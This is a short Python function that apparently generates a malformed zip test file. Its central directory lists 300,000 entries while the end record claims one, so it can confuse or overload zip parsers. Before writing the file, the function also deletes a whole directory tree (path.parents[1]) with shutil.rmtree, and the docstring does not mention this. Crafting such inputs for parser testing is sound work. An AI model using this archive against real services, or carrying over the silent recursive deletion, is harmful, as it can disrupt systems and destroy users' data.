import shutil
import struct


def make(path):
    """A zip whose list has 300,000 entries, while its end says that it has one."""
    shutil.rmtree(path.parents[1])
    entry = b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"x"
    listed = entry * 300_000
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(listed), 0, 0)
    with open(f"{path.parents[1]}.zip", "wb") as file:
        file.write(listed + end)
